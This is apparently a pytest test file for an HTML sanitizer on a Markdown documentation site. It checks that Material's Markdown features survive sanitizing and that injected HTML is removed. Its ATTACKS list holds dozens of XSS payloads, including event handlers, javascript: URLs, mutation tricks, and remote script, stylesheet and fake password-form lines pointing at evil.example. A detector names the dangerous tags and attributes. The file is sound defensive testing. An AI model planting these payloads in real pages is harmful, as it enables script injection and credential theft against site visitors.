"""Authors' HTML: all of Material's Markdown stays, whatever runs goes."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown import Markdown
from material.extensions.emoji import to_svg, twemoji  # type: ignore[import-untyped]

from okrsite.portal.fitting import fit
from okrsite.portal.parts import Notes
from okrsite.portal.prose import note_converter, plain_text, resolve, sanitize

CONFIGS: dict[str, dict[str, Any]] = {
    "abbr": {},
    "admonition": {},
    "attr_list": {},
    "def_list": {},
    "footnotes": {},
    "md_in_html": {},
    "tables": {},
    "toc": {"permalink": True},
    "pymdownx.arithmatex": {"generic": True},
    "pymdownx.betterem": {},
    "pymdownx.caret": {},
    "pymdownx.critic": {},
    "pymdownx.details": {},
    "pymdownx.emoji": {"emoji_index": twemoji, "emoji_generator": to_svg},
    "pymdownx.highlight": {
        "anchor_linenums": True,
        "line_spans": "__span",
        "pygments_lang_class": True,
    },
    "pymdownx.inlinehilite": {},
    "pymdownx.keys": {},
    "pymdownx.magiclink": {},
    "pymdownx.mark": {},
    "pymdownx.smartsymbols": {},
    "pymdownx.superfences": {
        "custom_fences": [{"name": "mermaid", "class": "mermaid"}],
    },
    "pymdownx.tabbed": {"alternate_style": True},
    "pymdownx.tasklist": {"custom_checkbox": True},
    "pymdownx.tilde": {},
}

FEATURES = {
    "admonition": '!!! warning "Mind *this*"\n    Text\n',
    "inline admonition": '!!! info inline end "Aside"\n    Text\n',
    "details": '???+ note "More"\n    Text\n',
    "tabs": '=== "One"\n    A\n\n=== "Two"\n    B\n',
    "aligned table": "| a | b |\n|:-:|--:|\n| 1 | 2 |\n",
    "definition list": "Term\n\n:   What it is\n",
    "code": "```python\ndef f():\n    return 1\n```\n",
    "numbered code": '```python linenums="1" hl_lines="1" title="a.py"\nx = 1\n```\n',
    "inline code": "`#!python range(3)` and `plain`\n",
    "annotated code": "```yaml\na: 1 # (1)!\n```\n\n1.  Why\n",
    "mermaid": "```mermaid\ngraph LR\n  A --> B\n```\n",
    "tasks": "- [x] done\n- [ ] open\n    1. [ ] nested\n",
    "footnotes": "Text[^1] again[^1]\n\n[^1]: The note\n",
    "keys": "++ctrl+alt+del++\n",
    "emoji": ":smile: :material-check: :fontawesome-brands-github:{ .big title=x }\n",
    "permalink": "## A heading { #own .special }\n",
    "math": "Inline $a < b$ and\n\n$$\nE = mc^2\n$$\n",
    "attributes": "[a](b.md){ .md-button target=_blank rel=me } b\n{ #here .class lang=de }\n",
    "sized picture": '![alt](a.png "title"){ width="300" align=left loading=lazy }\n',
    "abbreviation": "The OKR way\n\n*[OKR]: Objectives and Key Results\n",
    "inserted and marked": "^^ins^^ ~~del~~ ==mark== H~2~O a^2^ {++add++} {--cut--} {~~a~>b~~}\n",
    "smart symbols": "(c) --> 1/2 +/-\n",
    "figure": '<figure markdown="span">\n  ![a](a.png)\n  <figcaption>A</figcaption>\n</figure>\n',
    "grid": '<div class="grid cards" markdown>\n\n-   __One__\n\n    ---\n\n    Text\n\n</div>\n',
    "address": "https://host.example/a?b=1&c=2 and <me@host.example>\n",
    "quote and rule": "> quoted\n\n---\n\n3. three\n4. four\n",
    "video": '<video controls><source src="a.mp4" type="video/mp4"></video>\n',
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    '<svg></p><style><a title="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<form action="https://evil.example"><input type=password><button>go</button></form>',
    '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//e">',
    '<base href="https://evil.example/">',
    "<style>@import '//evil.example/x.css'</style>",
    '<div id="__config">{"base": "https://evil.example"}</div>',
    '<input id="__search"><div data-md-component="search" data-clipboard-text="x"></div>',
    '<a class="glightbox" data-title="<img src=x onerror=alert(1)>" href="a.png">x</a>',
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<video><source onerror=alert(1) src=x></video>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- okrsite:body --><!-- okrsite:page <h1> -->",
    "<template><script>alert(1)</script></template>",
    '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
    "<<script>alert(1)//<</script>",
    "<marquee onstart=alert(1)>x</marquee>",
]


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[tuple[str, str], ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        kept = ((k, re.sub(r"[\s;]+", "", v or "") if k == "style" else v or "") for k, v in attrs)
        if tag != "tbody":  # which every parser adds
            self.found.append((tag, tuple(sorted(kept))))


def elements(html: str) -> list[tuple[str, tuple[tuple[str, str], ...]]]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def convert(text: str) -> str:
    return Markdown(extensions=list(CONFIGS), extension_configs=CONFIGS).convert(text)


def test_the_boxes_of_a_task_list_have_a_name() -> None:
    html = sanitize('<input type="checkbox" disabled checked><input type="checkbox">')
    assert html.count('aria-label="done"') == 1 and html.count('aria-label="open"') == 1
    assert sanitize(html) == html


@pytest.mark.parametrize("name", FEATURES)
def test_all_that_materials_markdown_makes_stays(name: str) -> None:
    html = convert(FEATURES[name])
    named = re.sub(r' aria-label="(done|open)"', "", sanitize(html))
    assert elements(named) == elements(html)
    assert plain_text(sanitize(html)) == plain_text(html)


def _dangers(html: str) -> Iterator[str]:
    for tag, attributes in elements(html):
        if tag in ("script", "style", "iframe", "object", "embed", "form", "base", "link", "meta"):
            yield tag
        for name, value in attributes:
            if name.startswith(("on", "data-md", "data-clip", "data-title", "xlink")):
                yield name
            if re.match(r"[\s\x00-\x20]*(javascript|vbscript|data):", value, re.IGNORECASE):
                yield value
            if name == "style" and re.search(r"position|url|expression", value):
                yield value
            if name == "id" and value.startswith("__"):
                yield value
    if "<!--" in html:
        yield "comment"


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("wrap", ["{}", "<p>{}</p>", "<table><tr><td>{}", "<details>{}</details>"])
def test_whatever_runs_or_pretends_goes(attack: str, wrap: str) -> None:
    assert list(_dangers(sanitize(wrap.format(attack)))) == []
    assert sanitize(sanitize(wrap.format(attack))) == sanitize(wrap.format(attack))


def test_the_check_above_sees_what_it_should() -> None:
    assert len([attack for attack in ATTACKS if list(_dangers(attack))]) > len(ATTACKS) * 0.7


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("", ""),
        ("<p>One</p><p>two &amp; three</p>", "One two & three"),
        ('<h2 id="a">Why<a class="headerlink" href="#a">¶</a></h2>x', "Why x"),
        ("<ul><li>a</li><li>b<br>c</li></ul>", "a b c"),
        ("a<b>b</b>c", "abc"),
        ("<p>x</p><script>no</script>", "x"),
        ("1 &lt; 2 &lt;script&gt;", "1 < 2 <script>"),
    ],
)
def test_plain_text(html: str, text: str) -> None:
    assert plain_text(html) == text


def note(text: str) -> str:
    return note_converter(list(CONFIGS), CONFIGS)(text)


def test_two_notes_on_one_page_share_no_id() -> None:
    text = '# Same\n\n=== "A"\n    x[^1]\n\n[^1]: y\n'
    first, second = note(text + "one"), note(text + "two")
    ids = [re.findall(r'\bid="([^"]*)"', html) for html in (first, second)]
    assert ids[0] and not set(ids[0]) & set(ids[1])
    for html in (first, second):
        wanted = re.findall(r'href="#([^"]*)"', html) + re.findall(r'for="([^"]*)"', html)
        assert wanted and set(wanted) <= set(re.findall(r'\bid="([^"]*)"', html))
    assert "headerlink" not in first


def test_the_same_note_gives_the_same_html() -> None:
    assert note("# A\n\nb[^1]\n\n[^1]: c") == note("# A\n\nb[^1]\n\n[^1]: c")


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_note_runs_nothing(attack: str) -> None:
    assert list(_dangers(note(attack))) == []


def test_links_of_a_note_are_resolved_where_it_is_shown() -> None:
    html = note(
        "[a](../../objectives/x.md#kr) [b](gone.md) ![c](../i/c%20d.png) [e](https://e.example)"
    )
    asked: list[str] = []

    def address(path: str) -> str | None:
        asked.append(path)
        return {"objectives/x.md": "../x/", "i/c d.png": 'i/"c'}.get(path)

    assert resolve(html, address) == (
        '<p><a href="../x/#kr">a</a> <a>b</a> <img alt="c" src="i/&quot;c">'
        ' <a href="https://e.example">e</a></p>'
    )
    assert asked == ["objectives/x.md", "gone.md", "i/c d.png"]


def test_a_body_gives_way_to_its_page() -> None:
    page = '<h1>T</h1><h2 id="history">H</h2>'
    body, renamed = fit(
        '<h1 id="t">T</h1><h2 id="history">Mine</h2>'
        '<a href="#history">x</a><a href="history">y</a>',
        page,
    )
    assert renamed == {"history": "history-text"}
    assert body == (
        '<h2 id="t">T</h2><h2 id="history-text">Mine</h2><a href="#history-text">x</a>'
        '<a href="history">y</a>'
    )


def test_an_id_that_gives_way_finds_a_free_name_and_a_repeated_one_stands_once() -> None:
    body, renamed = fit(
        '<h2 id="a">A</h2><h2 id="a-text">B</h2><p id="x">1</p><p id="x">2</p>'
        '<a href="#a">a</a><a href="#gone">g</a><a href="#on-page">p</a>',
        '<p id="a"></p><p id="on-page"></p>',
    )
    assert renamed == {"a": "a-text-2"}
    assert body == (
        '<h2 id="a-text-2">A</h2><h2 id="a-text">B</h2><p id="x">1</p><p>2</p>'
        '<a href="#a-text-2">a</a><a>g</a><a href="#on-page">p</a>'
    )


def test_code_that_looks_like_an_attribute_is_left_alone() -> None:
    body = '<p id="k"><code>&lt;b id="h"&gt; href="#h"</code></p>'
    assert fit(body, '<h2 id="h">H</h2>') == (body, {})


def test_a_notes_headings_stand_below_those_of_its_page() -> None:
    html = note("# One\n\n## Two\n\n### Three\n")
    assert re.findall(r"<h(\d)", html) == ["3", "3", "3"]


def test_a_notes_anchors_lead_to_what_is_in_it() -> None:
    assert "href" not in note("[a](#gone)\n\n<!-- x\n")
    assert 'href="#n' in note("## B\n\n[a](#b)\n")


@pytest.mark.parametrize(
    "address", ["//evil.example/x", "/\\evil.example", "\\\\evil.example", "http://[", "//[x"]
)
def test_an_address_names_its_scheme_and_can_be_read(
    address: str, capfd: pytest.CaptureFixture[str]
) -> None:
    html = f'<a href="{address}">x</a>'
    assert sanitize(html) == "<a>x</a>"
    assert "href" not in note(html)
    assert capfd.readouterr().err == ""


def test_what_one_could_type_into_and_materials_own_parts_go() -> None:
    html = (
        '<input name="p" type="password"><input value=">"><p class="md-overlay a md-button">x</p>'
    )
    assert sanitize(html) == '<p class="a md-button">x</p>'
    assert "<input" not in note(f"<div>{html}</div>")


@pytest.mark.parametrize(
    "text", ["- " * 2000 + "x", "\n".join(f"{'    ' * i}- x" for i in range(300)), "> " * 900 + "x"]
)
def test_lists_within_lists_end_somewhere(text: str) -> None:
    assert "x" in note(text)


def test_a_note_that_two_people_wrote_alike_has_its_ids_once_on_a_page() -> None:
    notes = Notes(note).for_page()
    first, second = notes.html("## A\n\n[b](#a)\n"), notes.html("## A\n\n[b](#a)\n")
    ids = [re.findall(r'\bid="([^"]*)"', html) for html in (first, second)]
    assert ids[0] != ids[1]
    assert f'href="#{ids[1][0]}"' in second
    assert notes.for_page().html("## A\n\n[b](#a)\n") == first
